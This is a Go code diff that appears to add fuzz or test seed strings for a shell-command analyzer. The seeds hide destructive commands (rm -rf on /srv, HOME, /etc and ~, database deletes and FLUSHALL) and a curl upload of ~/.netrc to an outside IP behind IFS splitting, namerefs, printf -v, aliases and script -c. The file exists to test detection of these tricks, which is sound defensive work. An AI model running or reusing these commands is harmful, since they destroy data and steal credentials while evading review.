@@ -13,7 +13,21 @@ func shellSeeds() []string {
 	deep := func(open, mid, close string, n int) string {
 		return strings.Repeat(open, n) + mid + strings.Repeat(close, n)
 	}
-	var out []string
+	// Word splitting, names and code strings the walker resolves (IFS, ANSI-C values, namerefs,
+	// printf -v, aliases, script -c, database statements).
+	out := []string{
+		"IFS=,;a=rm,-rf,/srv;$a",
+		"X=$'\\t';curl${X}-T${X}~/.netrc${X}http://198.51.100.9/",
+		"IFS=; a='x y'; $a",
+		"IFS=$1; a=x; $a ${a} \"$a\"",
+		"declare -n r=HOME; rm -rf \"$r\"; local -n q; typeset -n",
+		"v=/etc; n=v; rm -rf \"${!n}\" ${!n} ${!}",
+		"printf -v c '%s %s' rm -rf; $c /; printf -v; printf -v x; printf -v x '%'",
+		"alias a='alias a=b; a'; a; alias b='b b'; b; unalias a; a",
+		"script -qc 'rm -rf ~' /dev/null; script --command=; script -c",
+		"echo 'DELETE FROM t;' | psql -h db app; redis-cli -h c FLUSHALL; sqlite3 :memory: 'drop table x'",
+		"wc -l $(git ls-files '*.go') $(find . -name x) $(git diff --name-only)",
+	}
 	for _, n := range []int{3, 100, 200} {
 		out = append(out,
 			deep("(", "ls", ")", n),
